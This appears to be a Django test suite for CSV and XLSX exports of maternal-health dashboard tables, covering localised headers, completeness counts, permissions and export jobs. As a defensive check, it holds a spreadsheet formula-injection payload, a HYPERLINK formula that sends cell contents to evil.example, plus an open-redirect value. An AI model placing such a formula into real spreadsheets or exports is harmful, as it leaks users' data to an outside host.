"""Dashboard tables as CSV and XLSX: the page's own figures, the filters on screen,
localised headers, a description sheet, and the dashboards' scope (404 outside it)."""

import csv
import datetime as dt
import io
import tempfile
from unittest import mock

import time_machine
from django.http import QueryDict
from django.test import TestCase, override_settings
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from indicators import pages
from indicators.selectors import completeness
from jobs.models import Job
from tests.factories import (
    CatchmentTargetFactory,
    FacilityFactory,
    MembershipFactory,
    ReportFactory,
    WorldMixin,
    add_values,
)
from tests.i18n import choose_language
from tests.permissions import PermissionMatrixMixin

NOW = dt.datetime(2025, 8, 15, 3, 0, tzinfo=dt.UTC)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
PAGES = {
    "overview": "/exports/table/overview.xlsx",
    "pws": "/exports/table/pws.xlsx",
    "deaths_referrals": "/exports/table/deaths_referrals.xlsx",
    "stunting": "/exports/table/stunting.xlsx",
    "trend": "/exports/table/trend/K6_COV.xlsx",
    "compare": "/exports/table/compare/K6_COV.xlsx",
    "multiples": "/exports/table/multiples/K6_COV.xlsx",
}


def workbook(response):
    return load_workbook(io.BytesIO(response.content))


def t(msgid: str) -> str:
    """``msgid`` in Indonesian, the site's language (the key an Indonesian reader sees)."""
    with translation.override("id"):
        return gettext(msgid)


def about(book) -> dict:
    ws = book[book.sheetnames[-1]]
    return {row[0].value: row[1].value for row in ws.iter_rows(min_row=2)}


@time_machine.travel(NOW, tick=False)
@override_settings(MEDIA_ROOT=tempfile.mkdtemp(prefix="qi-exports-"))
class TableExportTests(PermissionMatrixMixin, WorldMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.build_world()
        cls.evil = FacilityFactory(
            code="P1706009", name=EVIL, subdistrict=cls.pkm_lubuk_pinang.subdistrict
        )
        facilities = (cls.pkm_lubuk_pinang, cls.pkm_kota_mukomuko, cls.evil, cls.rsud_mukomuko)
        for i, facility in enumerate(facilities):
            CatchmentTargetFactory(facility=facility, year=2025, pregnant=120)
            for month in range(1, 8):
                if facility == cls.evil and month == 7:
                    continue  # July: 2 of 3 reports
                report = ReportFactory(
                    facility=facility, period=dt.date(2025, month, 1), status="approved"
                )
                add_values(report, {"K1": 10 + i, "K4": 9, "K6": 8, "LAHIR_HIDUP": 8})
        MembershipFactory(
            network=cls.network_cilegon, facility=cls.evil, joined=dt.date(2025, 6, 1)
        )

    def get(self, url, user=None, language=None):
        self.client.force_login(user or self.dinkes_mukomuko)
        if language:
            choose_language(self.client, language)
        return self.client.get(url)

    def test_every_page_downloads_as_xlsx_with_an_about_sheet(self):
        for name, url in PAGES.items():
            with self.subTest(name):
                response = self.get(url + "?district=17.06")
                self.assertEqual(response.status_code, 200)
                self.assertIn("attachment;", response["Content-Disposition"])
                self.assertIn(".xlsx", response["Content-Disposition"])
                book = workbook(response)
                lines = about(book)
                self.assertIn("Kabupaten Mukomuko", lines["Wilayah"])
                self.assertIn("Periode", lines)
                self.assertIn("Filter", lines)
                self.assertRegex(lines[t("Completeness")], r"^\d+ .+ \d+ ")  # n of m
                self.assertTrue(book[book.sheetnames[0]].max_row >= 2, name)

    def test_overview_holds_the_page_figures_and_the_filters(self):
        url = PAGES["overview"] + "?district=17.06&period=2025-07&rows=facilities"
        book = workbook(self.get(url))
        ws = book[book.sheetnames[0]]
        headers = [c.value for c in ws[2]]  # row 1: what "incomplete" means
        self.assertEqual(headers[:2], ["Kode", "Wilayah"])
        page = pages.build(
            "overview",
            user=self.dinkes_mukomuko,
            params=QueryDict("district=17.06&period=2025-07&rows=facilities"),
        ).data.to_json()
        rows = {r[0].value: [c.value for c in r] for r in ws.iter_rows(min_row=3)}
        self.assertEqual(set(rows), {r["code"] for r in page["rows"]})
        for row in page["rows"]:
            k1 = row["cells"][0]["current"]
            values = rows[row["code"]]
            self.assertEqual(values[7:10], [k1["value"], k1["numerator"], k1["denominator"]])
            self.assertEqual(values[2:4], [row["completeness"]["included"], 1])
        # the facility without a July report: no value, never zero
        self.assertIsNone(rows["P1706009"][7])
        self.assertEqual(rows["P1706009"][1], "'" + EVIL)  # shown, never run
        lines = about(book)
        self.assertIn("2025-07", lines["Periode"])
        self.assertIn(f"{t('Rows')}: {t('Every facility')}", lines["Filter"])
        self.assertTrue(lines[t("Completeness")].startswith("3 "))  # 3 of 4 reports in July
        self.assertIn(" 4 ", lines[t("Completeness")])

    def test_the_deaths_export_states_the_completeness_its_page_counted(self):
        url = PAGES["deaths_referrals"] + "?district=17.06&start=2025-01&end=2025-07"
        with mock.patch(
            "indicators.selectors.completeness.range_completeness",
            wraps=completeness.range_completeness,
        ) as counted:
            lines = about(workbook(self.get(url)))
        self.assertEqual(counted.call_count, 1)  # the page's, not a second one for the sheet
        # January–June 4 of 4, July 3 of 4 (the facility without a July report)
        self.assertTrue(lines[t("Completeness")].startswith("27 "), lines[t("Completeness")])
        self.assertIn(" 28 ", lines[t("Completeness")])

    def test_csv_has_the_description_block_and_localised_headers(self):
        response = self.get(
            "/exports/table/trend/K6_COV.csv?district=17.06&start=2025-01&end=2025-07"
        )
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        self.assertTrue(rows[0][0].startswith("# "))
        self.assertIn("Cakupan K6", rows[0][0])
        comments = [r[0] for r in rows if r and r[0].startswith("#")]
        self.assertTrue(any(c.startswith("# Wilayah: ") and "Mukomuko" in c for c in comments))
        header = next(r for r in rows if r and r[0] == "Bulan")
        self.assertIn("Pembilang", header)
        self.assertIn("Penyebut", header)
        data = [r for r in rows if r and r[0].startswith("2025-")]
        self.assertEqual([r[0] for r in data], [f"2025-{m:02d}" for m in range(1, 8)])
        complete = header.index(t("Complete month"))
        self.assertEqual(data[-1][complete], t("no"))  # July: 3 of 4 reports, marked
        self.assertEqual(data[0][complete], t("yes"))

    def test_english_headers_for_an_english_reader(self):
        book = workbook(self.get(PAGES["trend"] + "?district=17.06", language="en"))
        ws = book[book.sheetnames[0]]
        self.assertEqual(ws["A2"].value, "Month")
        self.assertIn("Numerator", [c.value for c in ws[2]])
        self.assertIn("Area", about(book))

    def test_injection_is_neutralised_in_csv(self):
        response = self.get("/exports/table/compare/K6_COV.csv?district=17.06&period=2025-06")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        names = [r[0] for r in rows if r and "HYPERLINK" in r[0]]
        self.assertEqual(names, ["'" + EVIL])

    def test_permission_matrix(self):
        for url in (PAGES["overview"] + "?district=17.06", PAGES["trend"] + "?district=17.06"):
            self.assert_matrix(
                url,
                allowed=[self.dinkes_mukomuko, self.provinsi_bengkulu, self.national_viewer],
                denied=[],
            )
        out = PAGES["overview"] + "?district=36.72"
        for user in (self.dinkes_mukomuko, self.kapus_lubuk_pinang, self.provinsi_bengkulu):
            self.assert_status(user, out, 404)
        self.assert_status(self.coach_cilegon, PAGES["overview"] + "?district=17.01", 404)
        self.assert_status(self.kapus_lubuk_pinang, PAGES["overview"] + "?facility=P1706002", 404)
        self.assert_status(self.dinkes_mukomuko, "/exports/table/overview.pdf?district=17.06", 404)
        self.assert_status(self.dinkes_mukomuko, "/exports/table/nothing.csv?district=17.06", 404)
        self.assert_status(self.dinkes_mukomuko, "/exports/table/trend.csv?district=17.06", 404)

    def test_an_invalid_filter_redirects_with_the_message(self):
        query = "?district=17.06&start=2025-07&end=2025-01"
        response = self.get(PAGES["trend"] + query + "&next=https://evil.example/")
        self.assertRedirects(
            response,
            "/dashboards/trend/K6_COV/" + query + "&next=https%3A%2F%2Fevil.example%2F",
            fetch_redirect_response=False,
        )

    @override_settings(QI_EXPORT_INLINE_FACILITIES=2)
    def test_a_big_area_runs_as_a_job(self):
        with self.captureOnCommitCallbacks(execute=True):
            response = self.get(PAGES["overview"] + "?district=17.06&period=2025-06")
        job = Job.objects.get()
        self.assertRedirects(response, f"/jobs/{job.pk}/", fetch_redirect_response=False)
        self.assertEqual((job.kind, job.status), ("table_export", Job.Status.DONE))  # eager
        book = load_workbook(job.result.open("rb"))
        self.assertIn("Kabupaten Mukomuko", about(book)["Wilayah"])

    def test_the_dashboard_offers_the_downloads_with_its_query_string(self):
        response = self.get("/dashboards/trend/K6_COV/?district=17.06&start=2025-01&end=2025-07")
        self.assertContains(response, 'data-testid="export-menu"')
        self.assertContains(
            response,
            'href="/exports/table/trend/K6_COV.csv?district=17.06&amp;start=2025-01&amp;end=2025-07"',
        )
        self.assertContains(response, 'action="/exports/raw.xlsx?district=17.06&amp;start=2025-01')
        self.assertNotContains(response, 'data-testid="export-province"')
        menu = response.content.decode().split('data-testid="export-menu"')[1].split("</ul>")[0]
        self.assertIn('name="csrfmiddlewaretoken"', menu)  # the POST form works with CSRF on


@time_machine.travel(NOW, tick=False)
@override_settings(MEDIA_ROOT=tempfile.mkdtemp(prefix="qi-exports-"))
class JobExportTests(PermissionMatrixMixin, WorldMixin, TestCase):
    """Raw values and the province summary run as jobs (eagerly here)."""

    @classmethod
    def setUpTestData(cls):
        cls.build_world()
        for facility in (cls.pkm_lubuk_pinang, cls.pkm_kota_mukomuko, cls.pkm_manna):
            for month in (5, 6, 7):
                report = ReportFactory(
                    facility=facility, period=dt.date(2025, month, 1), status="approved"
                )
                add_values(report, {"K1": 10, "K4": -0 + 9, "LAHIR_HIDUP": 8})
        ReportFactory(facility=cls.pkm_lubuk_pinang, period=dt.date(2025, 4, 1), status="draft")

    def post(self, url, user):
        self.client.force_login(user)
        with self.captureOnCommitCallbacks(execute=True):
            return self.client.post(url)

    def test_raw_values(self):
        response = self.post(
            "/exports/raw.xlsx?district=17.06&start=2025-01&end=2025-07", self.dinkes_mukomuko
        )
        job = Job.objects.get()
        self.assertRedirects(response, f"/jobs/{job.pk}/", fetch_redirect_response=False)
        self.assertEqual(job.status, Job.Status.DONE)
        book = load_workbook(job.result.open("rb"))
        ws = book[book.sheetnames[0]]
        headers = [c.value for c in ws[1]]
        self.assertEqual(headers[:4], [t("Facility code"), t("Facility"), "Kecamatan", "Bulan"])
        k1 = next(i for i, h in enumerate(headers) if h.startswith("K1 "))
        rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
        self.assertEqual(len(rows), 6)  # 2 facilities × 3 approved months; the draft is not in
        self.assertEqual({r[0] for r in rows}, {"P1706001", "P1706002"})
        self.assertEqual({r[k1] for r in rows}, {10})
        self.assertTrue(about(book)[t("Completeness")].startswith("6 "))
        # the download: owner only, an attachment
        download = self.client.get(f"/jobs/{job.pk}/download/")
        self.assertEqual(download.status_code, 200)
        self.assertIn("attachment;", download["Content-Disposition"])
        self.assertEqual(b"".join(download.streaming_content)[:2], b"PK")

    def test_raw_values_out_of_scope_is_404_and_no_job(self):
        self.assertEqual(
            self.post("/exports/raw.xlsx?district=17.01", self.dinkes_mukomuko).status_code, 404
        )
        self.assertEqual(
            self.post("/exports/raw.xlsx?facility=P1706002", self.kapus_lubuk_pinang).status_code,
            404,
        )
        self.assertEqual(
            self.post("/exports/raw.pdf?district=17.06", self.dinkes_mukomuko).status_code, 404
        )
        self.assertFalse(Job.objects.exists())
        self.client.logout()
        anonymous = self.client.post("/exports/raw.xlsx?district=17.06")
        self.assertTrue(anonymous["Location"].startswith("/accounts/login/"))
        self.assert_status(self.dinkes_mukomuko, "/exports/raw.xlsx?district=17.06", 405)

    def test_province_summary_for_province_users_only(self):
        url = "/exports/province.xlsx?province=17&period=2025-06"
        response = self.post(url, self.provinsi_bengkulu)
        job = Job.objects.get()
        self.assertEqual(response.status_code, 302)
        self.assertEqual((job.kind, job.status), ("province_summary", Job.Status.DONE))
        book = load_workbook(job.result.open("rb"))
        ws = book[book.sheetnames[0]]
        names = [r[1].value for r in ws.iter_rows(min_row=3)]
        self.assertEqual(sorted(names), ["Kabupaten Bengkulu Selatan", "Kabupaten Mukomuko"])
        self.assertIn("2025-06", about(book)["Periode"])
        for user in (
            self.dinkes_mukomuko,
            self.kapus_lubuk_pinang,
            self.coach_cilegon,
            self.outsider,
        ):
            self.assertEqual(self.post(url, user).status_code, 404)
        self.assertEqual(
            self.post(
                "/exports/province.xlsx?province=36&period=2025-06", self.provinsi_bengkulu
            ).status_code,
            404,
        )
        self.assertEqual(Job.objects.count(), 1)
        self.assertEqual(self.post(url, self.national_viewer).status_code, 302)

    def test_the_province_page_offers_the_summary(self):
        self.client.force_login(self.provinsi_bengkulu)
        response = self.client.get("/dashboards/?province=17&period=2025-06")
        self.assertContains(response, 'data-testid="export-province"')
        self.assertContains(
            response, 'action="/exports/province.xlsx?province=17&amp;period=2025-06"'
        )


class AttachmentHeaderTests(TestCase):
    def test_a_non_ascii_file_name_is_encoded_not_broken(self):
        from types import SimpleNamespace

        from exports.views import _attachment

        output = SimpleNamespace(
            content=b"x", content_type="text/csv", filename="Pustu “Air” é.csv"
        )
        response = _attachment(output)
        self.assertEqual(
            response["Content-Disposition"],
            "attachment; filename*=utf-8''Pustu%20%E2%80%9CAir%E2%80%9D%20%C3%A9.csv",
        )
        plain = _attachment(
            SimpleNamespace(content=b"x", content_type="text/csv", filename="t.csv")
        )
        self.assertEqual(plain["Content-Disposition"], 'attachment; filename="t.csv"')
